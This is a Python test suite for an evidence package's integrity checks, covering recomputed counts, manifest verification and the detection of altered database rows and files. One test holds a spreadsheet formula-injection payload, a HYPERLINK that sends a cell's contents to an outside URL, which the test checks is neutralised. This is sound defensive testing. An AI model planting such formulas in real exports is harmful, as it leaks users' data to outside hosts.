"""An answer's package: whole, readable by others, and every number in it computed anew."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from base64 import b64decode
from dataclasses import replace
from pathlib import Path

import pytest
from sqlalchemy import text

from datasets.errors import CaseDamaged, CaseExists, PackageDamaged, ResultError, UsageError
from evidence.answer.case import read_case
from evidence.answer.package import COUNTED, recompute, write_package, write_tables
from evidence.answer.question import Question
from evidence.answer.report import render_answer
from evidence.case.pack import pack
from evidence.case.tables import Item
from evidence.case.unpack import unpack
from evidence.case.work_queue import FootageSource, add_work
from evidence.pdf import write_pdf
from tests.evidence.answer.conftest import Builder, judge_all
from tests.evidence.answer.made import ONE, drawn
from tests.evidence.answer.test_forged import close
from tests.evidence.case.conftest import encoded
from tests.rows import act, look

ON_SQLITE = pytest.mark.parametrize("database", ["sqlite"], indirect=True)
"""In a package every case is on SQLite: harm that is done there does not depend on where it was."""


def fill(b: Builder) -> None:
    for plant in range(12):
        b.add(f"Plant {plant}", claim="dmtg", outcome="accept", published="2023")
        b.add(f"Plant {plant}", claim="mazak", outcome="accept", chance=0.05)
        b.add(f"Plant {plant}", outcome="concealed")
    b.add("studio", claim="dmtg")
    b.control(37)
    for plant in range(12):
        b.frame(f"Plant {plant}", "nothing" if plant else "missed", views=2)
    judge_all(b.session)


@pytest.fixture(scope="module")
def made() -> dict[str | None, Path]:
    """The package of a case on each kind of database, made once: it takes longer than all else."""
    return {}


@pytest.fixture
def package(case, database, registry, b, made, tmp_path, tmp_path_factory) -> Path:
    kind = database and "postgresql"
    if kind not in made:
        fill(b)
        b.write()
        folder = tmp_path_factory.mktemp("package")
        write_package(case, Question(), registry, folder / "package")
        made[kind] = folder / "package"
    return shutil.copytree(made[kind], tmp_path / "package")


def test_every_number_comes_out_the_same(package):
    found, differences, *_ = recompute(package)
    assert differences == []
    assert found.counts.confirmed == 12
    assert found.controls.of == 1
    assert (found.missed.judged, found.missed.missed) == (12, 1)
    assert found.said.sentence in (package / "data" / "report.html").read_text("utf-8")


@ON_SQLITE
def test_a_number_or_fact_that_was_changed_is_found(package):
    file = package / "data" / "answer.json"
    said = json.loads(file.read_bytes())
    said["answer"]["counts"]["confirmed"] = 13
    verdicts = said["facts"]["verdicts"]
    said["facts"] |= {"verdicts": verdicts + 1, "head": "ab" * 32}
    file.write_text(json.dumps(said), "utf-8")
    with pytest.raises(PackageDamaged, match=r"data/answer\.json was altered"):
        recompute(package)
    close(package)
    confirmed, head, number = recompute(package).differences
    assert confirmed == "counts.confirmed: 13 in the package, 12 computed"
    assert head.startswith(f"facts.head: '{'ab' * 32}' in the package")
    assert number == f"facts.verdicts: {verdicts + 1} in the package, {verdicts} computed"


@ON_SQLITE
@pytest.mark.parametrize(
    ("statement", "told"),
    [
        ("UPDATE verdicts SET author = 'carla' WHERE number = 3", "verdict 3: not as it was given"),
        (
            "UPDATE items SET given = 9 WHERE kind = 'claim'",
            "does not agree with its flags, draws and verdicts",
        ),
        ("UPDATE sightings SET confidence = 0.5", "rows of it are missing or were changed"),
        ("UPDATE sightings SET model = 'another'", "rows of it are missing or were changed"),
        ("UPDATE machines SET sightings = 2", "does not follow from sightings, links"),
    ],
    ids=["log", "items", "analyses", "names", "machines"],
)
def test_a_case_in_it_that_contradicts_itself_is_found(package, statement, told):
    """Rows of it were changed, and the bag was closed again as if nothing were."""
    file = package / "data" / "case.zip"
    with unpack(file, package.with_name("opened")) as case:
        with case.session() as session, session.begin():
            session.execute(text("DROP TRIGGER verdicts_no_update"))
            session.execute(text(statement))
        file.unlink()
        pack(case, file)
    close(package)
    otherwise = recompute(package).differences
    assert any(told in line for line in otherwise), otherwise


def test_no_package_is_made_of_a_case_that_contradicts_itself(case, registry, b, tmp_path):
    """An item stands as if more people had judged it than did."""
    b.add("Plant 1", claim="dmtg", outcome="accept")
    judge_all(b.session)
    b.session.query(Item).update({"given": 9})
    b.write()
    with pytest.raises(CaseDamaged, match=r"contradicts itself: item .* does not agree") as raised:
        write_package(case, Question(), registry, tmp_path / "package")
    assert str(case.folder) in str(raised.value)
    assert "`nameplate case check` says what to do" in str(raised.value)
    assert list(tmp_path.glob("*package*")) == []


def alter(file: Path) -> None:
    content = bytearray(file.read_bytes())
    content[len(content) // 2] ^= 1
    file.write_bytes(content)


def add(file: Path) -> None:
    file.parent.mkdir(exist_ok=True)
    file.write_text("more", "utf-8")


@ON_SQLITE
@pytest.mark.parametrize(
    ("harm", "file", "told"),
    [
        (alter, "data/report.pdf", "data/report.pdf was altered"),
        (alter, "data/tables/verdicts.csv", "data/tables/verdicts.csv was altered"),
        (Path.unlink, "data/case.zip", "data/case.zip is gone"),
        (Path.unlink, "data/tables/footage.csv", "data/tables/footage.csv is gone"),
        (add, "data/tables/more.csv", "data/tables/more.csv was added"),
        (add, "more.txt", "more.txt was added"),
        (alter, "bag-info.txt", "bag-info.txt was altered"),
        (alter, "manifest-sha256.txt", "manifest-sha256.txt was altered"),
        (Path.unlink, "manifest-sha256.txt", "manifest-sha256.txt is gone"),
        (Path.unlink, "tagmanifest-sha256.txt", "tagmanifest-sha256.txt is gone"),
    ],
    ids=lambda value: value if isinstance(value, str) else value.__name__,
)
def test_a_package_that_is_not_what_it_was(package, harm, file, told):
    harm(package / file)
    with pytest.raises(PackageDamaged, match="not what it was") as raised:
        recompute(package)
    assert told in str(raised.value)


@pytest.mark.parametrize("harm", [alter, Path.unlink])
def test_a_picture_that_is_no_longer_what_it_was_is_told_of_and_not_shown(
    case, registry, b, tmp_path, harm
):
    pictures = [encoded(number, "JPEG") for number in range(2)]
    kept, lost = map(case.put_still, pictures)

    for sha256 in (kept, lost):
        b.add("Plant 1", claim="dmtg", outcome="accept")
        b.still(sha256)
    judge_all(b.session)
    b.write()
    harm(case.still(lost, "jpg"))
    read, lacking = write_package(case, Question(), registry, tmp_path / "package")
    (line,) = lacking
    assert line.startswith(f"stills/{lost[:2]}/{lost}.jpg: not in it")
    assert recompute(tmp_path / "package").differences == lacking
    assert line in (tmp_path / "package" / "data" / "README.txt").read_text("utf-8")
    live = read_case(case, Question(), registry)
    for exhibits in (read.exhibits, live.exhibits):
        page = render_answer(replace(live, exhibits=exhibits), registry)
        (shown,) = re.findall(r'src="data:image/jpeg;base64,([^"]*)"', page)
        assert b64decode(shown) == pictures[0]
        assert f"no longer what it was: best <code>{lost[:12]}</code>" in page


def test_any_program_checks_it(package):
    for manifest in ("tagmanifest-sha256.txt", "manifest-sha256.txt"):
        subprocess.run(
            ["sha256sum", "--check", "--strict", "--quiet", manifest], cwd=package, check=True
        )


def read_table(package: Path, name: str) -> list[dict[str, str]]:
    with (package / "data" / "tables" / f"{name}.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_a_number_is_followed_to_its_footage(package):
    counted = read_table(package, "counted")
    assert len(counted) == 36
    confirmed = [one for one in counted if one["settled"] == one["hit"] == "true"]
    said = json.loads((package / "data" / "answer.json").read_bytes())["answer"]
    assert len(confirmed) == said["counts"]["confirmed"]
    originals = {one["sha256"] for one in read_table(package, "footage")}
    judged = {one["footage"] for one in read_table(package, "verdicts")}
    for machine in confirmed:
        shown = set(json.loads(machine["footage"]))
        assert shown and shown <= originals and shown & judged


def test_it_says_what_it_is_in_plain_words(package):
    data = package / "data"
    words = (data / "README.txt").read_text("utf-8")
    files = [path.relative_to(data).as_posix() for path in data.rglob("*") if path.is_file()]
    assert len(files) == 11 and [name for name in files if f"\n{name} " not in words] == []
    explained = re.findall(r"^(\w+)  ", words.partition("counted.csv\n====")[2], re.MULTILINE)
    assert tuple(explained) == COUNTED
    assert "NOT the model" in words


FORMULA = '=HYPERLINK("http://example.org/?" & A1, "Plant 1")'


def test_no_cell_is_a_formula(case, b, tmp_path):
    b.add(FORMULA, claim="mazak")
    b.add("-2", claim="haas")
    b.write()
    with case.snapshot() as session:
        write_tables(session, [drawn(ONE, 0.02)], tmp_path)
    with (tmp_path / "locations.csv").open(newline="") as file:
        claimed = {row["plant_claimed"] for row in csv.DictReader(file)}
    assert claimed == {f"'{FORMULA}", "'-2"}
    with (tmp_path / "counted.csv").open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert (row["chance"], row["stated"], row["hit"], row["recordings"]) == (
        "0.02", "true", "", '["a"]'
    )  # fmt: skip


def test_what_waits_to_be_looked_at_waits_in_a_package_too(case, registry, b, tmp_path):
    """Opening a pack sets it aside, and what could not be looked at holds up no "None"."""
    fill(b)
    b.write()
    act(case, add_work, b.recipe, [FootageSource("/archive/more.mp4", 1, 1)])
    there = read_case(case, Question(), registry).answer
    here = write_package(case, Question(), registry, tmp_path / "package")[0].answer
    assert (here.caveat("not_looked_at"), here.caveat("set_aside")) == (1, 0)
    assert here.counts == there.counts and here.warnings == there.warnings
    assert recompute(tmp_path / "package").differences == []


def test_nothing_is_written_over(package, case, registry):
    with pytest.raises(CaseExists):
        write_package(case, Question(), registry, package)
    with pytest.raises(UsageError, match="no package"):
        recompute(package.parent)


def test_what_cannot_be_written_says_what_to_do(case, registry, tmp_path):
    (tmp_path / "counted.csv").symlink_to("/dev/full")
    told = r"counted.csv: it could not be written \(No space left on device\); free some space$"
    with pytest.raises(ResultError, match=told):
        look(case, write_tables, [], tmp_path)
    (tmp_path / "file").write_text("", "utf-8")
    told = "file/answer: it could not be written .*; move away what is in its way$"
    with pytest.raises(ResultError, match=told):
        write_package(case, Question(), registry, tmp_path / "file" / "answer")
    (tmp_path / "a.pdf").symlink_to("/dev/full")
    told = r"a\.pdf: it could not be written .*; free some space$"
    with pytest.raises(ResultError, match=told):
        write_pdf("<html><body>nothing</body></html>", tmp_path / "a.pdf")
